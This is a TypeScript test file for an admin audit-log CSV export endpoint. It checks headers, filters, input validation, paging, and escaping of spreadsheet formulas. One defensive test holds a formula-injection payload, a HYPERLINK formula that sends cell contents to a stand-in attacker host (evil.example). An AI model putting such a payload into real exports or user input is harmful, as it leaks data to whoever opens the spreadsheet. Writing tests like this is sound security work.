import type { Browser } from '@latchkey/core/testing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startApp, type TestServer } from '../../testing/start-app.ts';
import { caller } from '../../testing/trpc-caller.ts';
import { auditCsv } from './audit-export.ts';
import type { AuditQuery } from './audit-search.ts';

const HEADING =
  'id,at,kind,actor,actorId,user,userId,sessionId,reference,reason,statedReason,ipAddress,browser,system,details,sealed';

let app: TestServer;
let admin: Browser;
let bob: Browser;
let bobId: string;
beforeEach(async () => {
  app = await startApp({ session: { accessTokenSeconds: 60 } });
  [admin, bob] = [app.browser(), app.browser()];
  await admin.post('/login', { username: 'admin', password: 'password' });
  await bob.post('/login', { username: 'bob', password: 'password' });
  bobId = (await app.users.findAccount('bob'))?.id ?? '';
});
afterEach(() => app.close());

/**
 * Parses CSV independently of the exported code (RFC 4180): a quote ends a text unless another one
 * follows.
 */
function parse(csv: string): Record<string, string>[] {
  const lines: string[][] = [[]];
  for (const [, text, bare, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    lines.at(-1)?.push(text?.replaceAll('""', '"') ?? bare ?? '');
    if (end === '\r\n') lines.push([]);
  }
  const [heading = [], ...rows] = lines.slice(0, -1);
  return rows.map((row) =>
    Object.fromEntries(heading.map((name, at) => [name, row[at] ?? 'missing'])),
  );
}

const get = (query = '', browser = admin, init?: RequestInit) =>
  browser.request(`/admin/audit.csv${query}`, init);
const rows = async (query = '') => parse((await get(query)).body);
const kinds = async (query = '') => (await rows(query)).map(({ kind }) => kind);

it('a streamed file adds fewer listeners to its response than Node warns of', async () => {
  const warnings: string[] = [];
  const onWarning = ({ name }: Error) => void warnings.push(name);
  process.on('warning', onWarning);
  await get();
  process.off('warning', onWarning);
  expect(warnings).toEqual([]);
});

describe('GET /admin/audit.csv', () => {
  it('exports the audit log with a heading, newest first, uncached, as an attachment', async () => {
    const answer = await get();
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="audit-2\d{3}-[\dTZ-]+\.csv"$/,
    );
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(answer.body.split('\r\n')[0]?.replaceAll('"', '')).toBe(HEADING);
    const [newest, oldest] = parse(answer.body);
    expect([newest?.kind, newest?.actor, newest?.userId, newest?.sealed]).toEqual([
      'session.issued',
      'bob',
      bobId,
      'false',
    ]);
    expect(oldest).toMatchObject({
      actor: 'admin',
      at: new Date(app.clock.now()).toISOString(),
      reason: '',
      details: '',
    });
  });

  it('the audit export accepts the filters of admin.audit under the same names', async () => {
    await caller(admin).mutate('admin.setRole', {
      userId: bobId,
      role: 'Admin',
      reason: 'Team lead, since May',
    });
    const now = app.clock.now();
    expect(await kinds('?kinds=role.changed,session.revoked')).toEqual([
      'session.revoked',
      'role.changed',
    ]);
    expect(await kinds('?kinds=role.changed&kinds=session.revoked')).toEqual([
      'session.revoked',
      'role.changed',
    ]);
    expect(await kinds('?kind=role.changed')).toEqual(['role.changed']);
    expect(
      await kinds(`?actor=ADMIN&userId=${bobId}&since=${now}&until=${now + 1}&text=team%20LEAD`),
    ).toEqual(['session.revoked', 'role.changed']);
    expect(await kinds(`?until=${now}&kind=session.issued`)).toEqual([]);
    expect(await kinds('?text=%25&kind=session.issued')).toEqual([]);
    const [changed] = await rows('?kind=role.changed');
    expect(changed).toMatchObject({
      actor: 'admin',
      user: 'bob',
      statedReason: 'Team lead, since May',
      details: '{"from":"User","to":"Admin"}',
    });
  });

  it.each([
    ['?actr=bob', /actr/],
    ['?limit=5', /limit/],
    ['?since=yesterday', /^since: must be a time/],
    ['?since=', /^since: must be a time/],
    ['?since=-1', /^since: must be a time/],
    ['?since=1e3', /^since: must be a time/],
    ['?until=9999999999999999', /^until: /],
    ['?kinds=', /^kinds\.0: /],
    ['?kinds=role.changed,odd', /^kinds\.1: /],
    ['?kind=odd', /^kind: /],
    ['?text=a&text=b', /^text: /],
    ['?text=%20', /^text: /],
    ['?text=a%00', /^text: must not hold a NUL/],
    [`?text=${'x'.repeat(129)}`, /^text: /],
    [`?kinds=${'x'.repeat(1_001)}`, /^kinds: /],
  ])(
    'the audit export refuses %s, so that a misspelt filter never exports the whole log',
    async (query, message) => {
      const answer = await get(query);
      expect([answer.status, JSON.parse(answer.body).message]).toEqual([
        400,
        expect.stringMatching(message),
      ]);
      expect(await app.auditLog.list({ kind: 'audit.exported', limit: 5 })).toEqual([]);
    },
  );

  it('records an audit export with actor and filter, after the exported events', async () => {
    expect(await kinds('?kinds=audit.exported,session.issued&text=admin')).toEqual([
      'session.issued',
    ]);
    const adminId = (await app.users.findAccount('admin'))?.id;
    const [event] = await app.auditLog.list({ kind: 'audit.exported', limit: 5 });
    expect(event).toMatchObject({
      actorId: adminId,
      userId: null,
      userAgent: 'Latchkey test browser',
      details: { filter: { kinds: ['audit.exported', 'session.issued'], text: 'admin' } },
    });
    expect(await kinds('?kinds=audit.exported')).toEqual(['audit.exported']);
  });

  it('an audit export escapes spreadsheet formulas in what users typed', async () => {
    await app.users.create({
      id: '-evil',
      username: '+evil',
      role: 'User',
      passwordHash: 'x',
      createdAt: 1,
    });
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    await caller(admin).mutate('admin.disableUser', { userId: '-evil', reason: formula });
    const [row] = await rows('?kind=user.disabled');
    expect(row).toMatchObject({ user: "'+evil", userId: "'-evil", statedReason: `'${formula}` });
    expect(Object.values(row ?? {}).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('an audit export writes an invalid timestamp unchanged', async () => {
    await app.auditLog.append([
      {
        kind: 'odd',
        at: 8.64e15 + 1,
        actorId: null,
        userId: null,
        sessionId: null,
        ipAddress: null,
        userAgent: null,
      },
    ]);
    expect((await rows())[0]).toMatchObject({ kind: 'odd', at: '8640000000000001' });
  });

  it('a long audit export is complete', async () => {
    const event = {
      kind: 'password.changed',
      actorId: bobId,
      userId: bobId,
      sessionId: null,
      ipAddress: null,
      userAgent: null,
    };
    await app.auditLog.append(Array.from({ length: 1_500 }, (_, at) => ({ ...event, at })));
    const ids = (await rows('?kind=password.changed')).map(({ id }) => Number(id));
    expect([ids.length, new Set(ids).size]).toEqual([1_500, 1_500]);
    expect(ids).toEqual(ids.toSorted((a, b) => b - a));
  });
});

it('an audit export reads the log in pages, only as fast as the client reads', async () => {
  const event = {
    kind: 'odd',
    at: 1,
    actorId: null,
    userId: null,
    sessionId: null,
    ipAddress: null,
    userAgent: null,
  };
  await app.auditLog.append(Array.from({ length: 1_000 }, () => event));
  const asked: AuditQuery[] = [];
  const counting = {
    search(query: AuditQuery) {
      asked.push(query);
      return app.auditSearch.search(query);
    },
  };
  const csv = auditCsv(counting, { kind: 'odd' }, async () => {});
  const lines: number[] = [];
  for (let step = 0; step < 3; step++) {
    const { value } = await csv.next();
    lines.push((value ?? '').split('\r\n').length - 1);
    expect(asked.length).toBe(Math.max(1, step));
  }
  expect(lines).toEqual([1, 500, 500]);
  expect(await csv.next()).toEqual({ value: undefined, done: true });
  expect(asked.map(({ limit }) => limit)).toEqual([500, 500]);
});
